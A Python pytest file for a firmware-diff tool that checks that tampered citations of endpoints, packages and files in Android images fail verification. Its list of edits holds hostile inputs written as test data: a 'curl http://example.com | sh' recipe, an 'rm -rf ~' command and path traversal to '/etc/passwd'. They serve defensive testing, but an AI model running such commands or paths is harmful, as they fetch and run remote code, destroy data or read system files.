"""A citation from a stranger proves what it says, or does not verify."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from fwdiff.cli.main import main
from fwdiff.engine import citing
from fwdiff.engine.citing import cite, opened
from fwdiff.engine.verifying import verify
from fwdiff.errors import ImageError
from fwdiff.model import Side
from fwdiff.model.citation import MOST_PLACES, Verification
from fwdiff.report.citation import citation_markdown, decode_citation, encode_citation, verification_text
from tests.bench.citations import compare
from tests.unit.engine.test_citing import citation_of, paths

HOST = "endpoint:zzhc.vnet.cn"
PACKAGE = "package:com.qualcomm.qti.autoregistration:/product/CDA/items/AutoRegistrationQCPS/AutoRegistrationQCPS.apk"
FILE = "file:/vendor/build.prop"

Document = dict[str, Any]
Edit = Callable[[Document], None]


@cache
def written(identifier: str) -> bytes:
    """A citation of the incident, whose every place stands on the right."""
    return encode_citation(citation_of("incident", identifier))


@cache
def image(side: str) -> str:
    return paths("incident")[side == "right"]


@cache
def digest(side: str) -> str:
    return hashlib.sha256(Path(image(side)).read_bytes()).hexdigest()


def outcome(content: bytes, of: str = "right") -> Verification | None:
    """What becomes of a citation; None where it is none."""
    try:
        citation = decode_citation(content)
    except ImageError:
        return None
    with opened(image(of)) as files:
        return verify(citation, files, digest(of))


def put(*path: str | int, value: object) -> Edit:
    """An edit that puts a value in place of another."""

    def edit(document: Document) -> None:
        *outer, last = path
        inner: Any = document
        for step in outer:
            inner = inner[step]
        assert inner[last] != value
        inner[last] = value

    return edit


def place(field: str, value: object, number: int = 0) -> Edit:
    return put("places", number, field, value=value)


def both(*edits: Edit) -> Edit:
    def edit(document: Document) -> None:
        for one in edits:
            one(document)

    return edit


def swap(field: str, one: int = 0, other: int = 1) -> Edit:
    def edit(document: Document) -> None:
        places = document["places"]
        places[one][field], places[other][field] = places[other][field], places[one][field]

    return edit


def hexed(text: str) -> str:
    return text.encode().hex()


def shorter(document: Document) -> None:
    """The start of what stands there, said of a host that is the start of the real one."""
    cited = document["places"][0]
    document["id"] = "endpoint:zzhc.vnet"
    cited |= {"what": "endpoint http://zzhc.vnet", "expected": hexed("http://zzhc.vnet"), "length": 16}


def nothing(document: Document) -> None:
    cited = document["places"][0]
    cited |= {"path": "", "file_sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}
    cited |= {"offset": None, "expected": None, "file_size": 0}


def nested(document: Document) -> None:
    document["places"] = [{"side": "right", "places": document["places"]}]


def whole(document: Document) -> None:
    """The true file, cited as a whole for a host that it holds elsewhere."""
    document["places"][0] |= {"offset": None, "length": None, "expected": None, "notation": None, "code": []}


def wider(document: Document) -> None:
    """One byte more than the literal."""
    cited = document["places"][0]
    cited |= {"expected": cited["expected"] + "00", "length": cited["length"] + 1}


OTHER = "Nokia/Other_00WW/X:9/X/1:user/release-keys"
EDITS: list[tuple[str, Edit]] = [
    (HOST, edit)
    for edit in (
        place("path", ""),
        place("expected", None),
        place("expected", ""),
        place("offset", None),
        place("length", None),
        place("notation", None),
        place("what", ""),
        place("member", ""),
        place("code", []),
        place("file_sha256", ""),
        nothing,
        whole,
        both(place("expected", ""), place("length", 0)),
        put("id", value=""),
        put("claim", value=""),
        put("places", value=[]),
        put("places", 0, "code", 1, "offsets", value=[]),
        place("offset", 5127),
        place("offset", 5125),
        place("offset", 0),
        place("offset", -5126),
        place("length", 18),
        place("length", 20),
        put("places", 0, "code", 1, "offsets", value=[6590]),
        shorter,
        wider,
        place("what", "endpoint http://www.google.com"),
        place("what", "endpoint zzhc.vnet.cn"),
        place("what", "package com.qualcomm.qti.autoregistration"),
        place("what", "file"),
        place("expected", hexed("http://zzhc.vnet.cm")),
        place("expected", hexed("http://zzhc.vnet.cn").upper()),
        place("notation", "utf-16le"),
        place("notation", "base64"),
        place("notation", "instruction"),
        place("api", "Landroid/telephony/TelephonyManager;->getImei"),
        put("id", value="endpoint:www.google.com"),
        put("id", value="endpoint:zzhc.vnet.cn:8080"),
        put("id", value="package:com.qualcomm.qti.autoregistration"),
        put("claim", value="endpoint removed"),
        put("claim", value="endpoint changed"),
        put("claim", value="package added"),
        put("claim", value="endpoint added to every phone"),
        put("places", 0, "code", 1, "method", value="onCreate"),
        put("places", 0, "code", 1, "class", value="Lcom/example/Other;"),
        lambda document: document["places"][0]["code"].pop(),
        lambda document: document["places"][0]["code"].append({"class": "LX;", "method": "y", "offsets": [1]}),
        place("recipe", ["curl http://example.com | sh"]),
        lambda document: document["places"][0]["recipe"].insert(0, "rm -rf ~"),
        put("right", "sha256", value="0" * 64),
        put("right", "format", value="ext4"),
        put("right", "fingerprint", value=OTHER),
        put("right", "fingerprint", value=None),
        place("file_size", 16849),
        place("path", "system/build.prop"),
        place("path", "../../../../etc/passwd"),
        place("path", "/etc/passwd"),
        place("side", "left"),
        place("side", "middle"),
        place("offset", 1 << 62),
        place("offset", 1 << 200),
        place("length", 1 << 62),
        place("expected", "zz"),
        place("code", [{"class": "X"}]),
        place("recipe", [[[]]]),
        nested,
        put("places", value={"0": []}),
        put("schema", value="fwdiff.citation/2"),
        lambda document: document["places"].extend([document["places"][0]] * MOST_PLACES),
    )
]
EDITS += [
    (PACKAGE, edit)
    for edit in (
        swap("offset"),
        swap("expected"),
        swap("what"),
        swap("code", 0, 1),
        swap("api", 0, 1),
        place("what", "package com.android.phone"),
        place("api", None),
        place("expected", "6e100000"),
        put("id", value="package:com.qualcomm.qti"),
        put("id", value="package:com.qualcomm.qti.autoregistration:/system/app/Other/Other.apk"),
    )
]
EDITS += [
    (FILE, edit) for edit in (put("id", value="file:/vendor/default.prop"), place("what", "endpoint http://x", 1))
]


def test_true_citations_verify() -> None:
    for identifier in (HOST, PACKAGE, FILE):
        found = outcome(written(identifier))
        assert found is not None
        assert found.verified, [check for check in found.checks if not check.held]


@pytest.mark.parametrize("number", range(len(EDITS)))
def test_no_edited_citation_verifies(number: int) -> None:
    identifier, edit = EDITS[number]
    document = json.loads(written(identifier))
    edit(document)
    found = outcome(json.dumps(document).encode())
    assert found is None or (not found.verified and any(not check.held and check.found for check in found.checks))


def test_a_verification_says_what_one_image_cannot_show() -> None:
    added = outcome(written(HOST))
    assert added is not None
    assert added.does_not_show == ("that the left build lacks it: compare the two builds for that",)
    changed = outcome(written(FILE))
    assert changed is not None
    assert changed.does_not_show == ("what stands in the left build: verify the citation with that image too",)
    with opened(image("right")) as files:
        unpacked = verify(decode_citation(written(HOST)), files, None)
    assert "that the files it does not cite are those of the build that was compared" in unpacked.does_not_show
    assert "does not show: that the left build lacks it" in verification_text(added)


def test_a_citation_of_the_right_does_not_verify_against_the_left() -> None:
    found = outcome(written(HOST), of="left")
    assert found is not None
    assert not found.verified


def test_the_command_says_what_is_wrong_and_ends_with_1_or_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "citation.json"
    for identifier, edit, code in (
        (HOST, place("what", "endpoint http://www.google.com"), 1),
        (HOST, nothing, 1),
        (HOST, put("places", value=[]), 2),
        (HOST, place("side", "middle"), 2),
        (HOST, nested, 2),
    ):
        document = json.loads(written(identifier))
        edit(document)
        path.write_text(json.dumps(document))
        assert main(["verify", str(path), image("right")]) == code
        out, words = capsys.readouterr()
        assert (out if code == 1 else words).strip()
        assert ("BAD" in out) == (code == 1)


@pytest.mark.parametrize(
    "other", [b"", b"[]", b"null", b'{"places": 1e999}', b"\xff\xfe", b"[" * 100_000, b'"' + b"x" * 99]
)
def test_what_is_no_citation_is_refused_in_words(
    other: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "citation.json").write_bytes(other)
    assert main(["verify", str(tmp_path / "citation.json"), image("right")]) == 2
    assert "no citation" in capsys.readouterr().err


@pytest.fixture
def linked(tmp_path: Path) -> tuple[str, str]:
    """Two folders that differ in where a link leads."""
    for side, target in (("left", "toybox"), ("right", "../../data/local/tmp/\udcff")):
        folder = tmp_path / side / "system/bin"
        folder.mkdir(parents=True)
        (folder / "toybox").write_bytes(b"#!")
        (folder / "ls").symlink_to(target)
    return str(tmp_path / "left"), str(tmp_path / "right")


def test_a_link_is_cited_by_where_it_leads(linked: tuple[str, str]) -> None:
    comparison = compare(*linked)
    with opened(linked[0]) as left, opened(linked[1]) as right:
        citation = cite(comparison, "configuration:link:/system/bin/ls", {Side.LEFT: left, Side.RIGHT: right})
        assert [bytes.fromhex(one.expected or "") for one in citation.places] == [
            b"toybox",
            b"../../data/local/tmp/\xff",
        ]
        assert citation.places[1].recipe[0] == """readlink -n -- "$IMAGE"/system/bin/ls > cited"""
        found = verify(citation, left, None)
        assert (found.verified, found.others) == (True, 1)
        assert verify(citation, right, None).verified
        wrong = replace(citation.places[0], expected=b"busybox".hex(), length=7)
        assert not verify(replace(citation, places=(wrong, citation.places[1])), left, None).verified


def test_a_citation_says_that_it_is_cut(linked: tuple[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(citing, "MOST_PLACES", 1)
    with opened(linked[0]) as left, opened(linked[1]) as right:
        cut = cite(compare(*linked), "configuration:link:/system/bin/ls", {Side.LEFT: left, Side.RIGHT: right})
    assert (len(cut.places), cut.more) == (1, True)
    assert "more places than these 1" in citation_markdown(cut)
    assert not citation_of("incident", HOST).more
